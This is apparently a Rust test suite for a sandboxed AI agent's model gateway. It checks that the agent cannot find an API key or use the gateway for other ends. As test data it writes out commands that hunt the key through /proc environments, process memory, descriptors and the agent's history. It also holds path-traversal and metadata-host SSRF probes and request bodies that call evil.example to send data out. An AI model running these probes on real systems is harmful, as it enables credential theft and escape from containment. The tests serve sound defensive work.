//! Attacks on the key, and on the door to the model service.

use super::{Attack, KEY, withstand};
use crate::support::Stage;

stories! {
    the_key_is_out_of_reach,
    the_door_to_the_model_leads_nowhere_else,
    what_the_service_would_fetch_is_refused,
}

/// What is the key's in any spelling, without spelling it: an attack that does would find itself.
const PATTERN: &str = r#"
half=sentinel; word="made-up-$half-7e1d"
b64=$(printf %s "$word" | base64 -w0 | cut -c2-20); hex=$(printf %s "$word" | od -An -tx1 | tr -d ' \n')
find_it() { tr '\0' '\n' | grep -aE "$word|$hex|$b64" | grep -av half=sentinel | wc -l; }
"#;

async fn the_key_is_out_of_reach(stage: &Stage) {
    let found = |name, search: &str| Attack {
        name,
        command: format!("{PATTERN}\n{search}").leak(),
        prints: "0",
    };
    let attacks = [
        found("S1: in the environment", "env | find_it"),
        found(
            "S1: in the environment of any process",
            "cat /proc/[0-9]*/environ 2>/dev/null | find_it",
        ),
        // The search has the word among its own arguments, so it begins when the list is whole.
        found(
            "S1: in an argument of any process",
            "cat /proc/[0-9]*/cmdline >/tmp/seen; find_it </tmp/seen; rm /tmp/seen",
        ),
        found(
            "S1: in any file",
            "grep -rahsE \"$word|$hex|$b64\" /app /logs /tmp /home /run /etc /opt/runbookd/in \"$HOME\" /dev/shm 2>/dev/null | find_it",
        ),
        found(
            "S1: in the memory of any process",
            "for maps in /proc/[0-9]*/maps; do pid=${maps%/maps}; [ $pid = /proc/self ] && continue
               dd if=$pid/mem bs=1M count=1 2>/dev/null; done | find_it",
        ),
        found(
            "S1: in a descriptor of any process",
            "for file in /proc/[0-9]*/fd/[3-9]; do [ -f $file ] && head -c 100000 $file; done 2>/dev/null | find_it",
        ),
        found(
            "S1: in the agent's own history",
            "cat \"$HOME\"/.claude*/projects/*/* \"$HOME\"/.claude.json 2>/dev/null | find_it",
        ),
    ];
    let aftermath = withstand(stage, &attacks, |_| {}).await;
    let fingerprint = runbookd::provider::scripted::Fingerprint::of(KEY);
    for entry in aftermath.asked.iter().filter(|entry| entry.method == "POST") {
        assert_eq!(
            entry.auth.api_key.as_ref(),
            Some(&fingerprint),
            "the service gets the real one"
        );
    }
}

/// Shows the status, and the word for what was wrong.
const ASK: &str = r#"
ask() { curl -s -o /tmp/answer -w '%{http_code} ' --max-time 10 --unix-socket /run/runbookd/model/model.sock "$@"
  grep -oE 'blocked by policy|own token is missing|cannot be read|message_start|"object"|"data"' /tmp/answer | head -n 1; }
say() { ask -X POST http://model/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' -d "$1"; }
"#;

/// Asks the gateway, as the agent could.
fn asks(name: &'static str, ask: &str, prints: &'static str) -> Attack {
    Attack { name, command: format!("{ASK}\n{ask}").leak(), prints }
}

/// Asks for a message with this body, which no policy allows.
fn says(name: &'static str, body: &str) -> Attack {
    asks(name, &format!("say '{body}'"), "400 blocked by policy")
}

/// None of the attacks reached the service, and each is in the ledger.
async fn all_are_refused(stage: &Stage, attacks: &[Attack]) {
    let aftermath = withstand(stage, attacks, |_| {}).await;
    let paths = aftermath.asked.iter().map(|entry| entry.path.as_str());
    let strange: Vec<&str> =
        paths.filter(|path| !path.starts_with("/v1/messages") && *path != "/").collect();
    assert_eq!(strange, Vec::<&str>::new(), "nothing of it reached the service");
    let ledger = aftermath.scene.text("logs/gateway.jsonl");
    let n_refused = ledger.lines().filter(|line| line.contains(r#""outcome":"refused""#)).count();
    assert_eq!(n_refused, attacks.len(), "each is in the ledger");
}

async fn the_door_to_the_model_leads_nowhere_else(stage: &Stage) {
    let attacks = [
        asks(
            "S2: without the run's token",
            "ask http://model/v1/models",
            "401 own token is missing",
        ),
        asks(
            "S2: with a key of the attacker's",
            "ask http://model/v1/models -H 'x-api-key: sk-ant-api03-of-somebody-else'",
            "401 own token is missing",
        ),
        asks(
            "S2: files of an account",
            "ask http://model/v1/files -H \"x-api-key: $ANTHROPIC_API_KEY\"",
            "404 blocked by policy",
        ),
        asks(
            "S2: batches, which answer later and elsewhere",
            "ask -X POST http://model/v1/messages/batches -d '{}' -H \"x-api-key: $ANTHROPIC_API_KEY\"",
            "404 blocked by policy",
        ),
        asks(
            "S2: the way up",
            "ask --path-as-is http://model/v1/messages/../files -H \"x-api-key: $ANTHROPIC_API_KEY\"",
            "404 blocked by policy",
        ),
        asks(
            "S2: the way up, encoded",
            "ask --path-as-is http://model/v1/messages/%2e%2e/files -H \"x-api-key: $ANTHROPIC_API_KEY\"",
            "404 blocked by policy",
        ),
        asks(
            "S2: two slashes",
            "ask http://model//v1/files -H \"x-api-key: $ANTHROPIC_API_KEY\"",
            "404 blocked by policy",
        ),
        asks(
            "S6: another host by its name",
            "ask http://model/v1/files -H 'Host: metadata.google.internal' -H \"x-api-key: $ANTHROPIC_API_KEY\"",
            "404 blocked by policy",
        ),
        asks(
            "S6: another host by an absolute address",
            "ask --request-target http://169.254.169.254/latest/meta-data http://model/ -H \"x-api-key: $ANTHROPIC_API_KEY\"",
            "404 blocked by policy",
        ),
    ];
    all_are_refused(stage, &attacks).await;
}

async fn what_the_service_would_fetch_is_refused(stage: &Stage) {
    let attacks = [
        says(
            "S3: web search by the service",
            r#"{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#,
        ),
        says(
            "S3: web fetch by the service",
            r#"{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#,
        ),
        says(
            "S3: code run by the service",
            r#"{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}"#,
        ),
        says(
            "S3: an MCP server called by the service",
            r#"{"model":"m","max_tokens":9,"messages":[],"mcp_servers":[{"type":"url","url":"https://evil.example","name":"x"}]}"#,
        ),
        says(
            "S3: an image fetched by the service",
            r#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?data"}}]}]}"#,
        ),
        says(
            "S3: a document in a tool result, fetched by the service",
            r#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/"}}]}]}]}"#,
        ),
        says(
            "S3: an image inside of a document, fetched by the service",
            r#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?data"}}]}}]}]}"#,
        ),
        says(
            "S3: a document out of somebody's bucket",
            r#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"document","source":{"s3Location":{"uri":"s3://evil/data"}}}]}]}"#,
        ),
        says(
            "S3: a tool of the service that nobody knows",
            r#"{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"mail_20990101","name":"mail"}]}"#,
        ),
        says(
            "S3: web search by a model's name",
            r#"{"model":"anthropic/claude-sonnet-4.6:online","max_tokens":9,"messages":[]}"#,
        ),
        says(
            "S3: web search by a plugin",
            r#"{"model":"m","max_tokens":9,"messages":[],"plugins":[{"id":"web"}]}"#,
        ),
        says(
            "S3: another model in the place of the one that is named",
            r#"{"model":"m","max_tokens":9,"messages":[],"models":["m","n:online"]}"#,
        ),
        asks(
            "S3: the same key twice, the harmless one last",
            r#"say '{"model":"m","max_tokens":9,"messages":[],"mcp_servers":[{"type":"url","url":"https://evil.example","name":"x"}],"mcp_servers":[]}'"#,
            "400 cannot be read",
        ),
    ];
    all_are_refused(stage, &attacks).await;
}
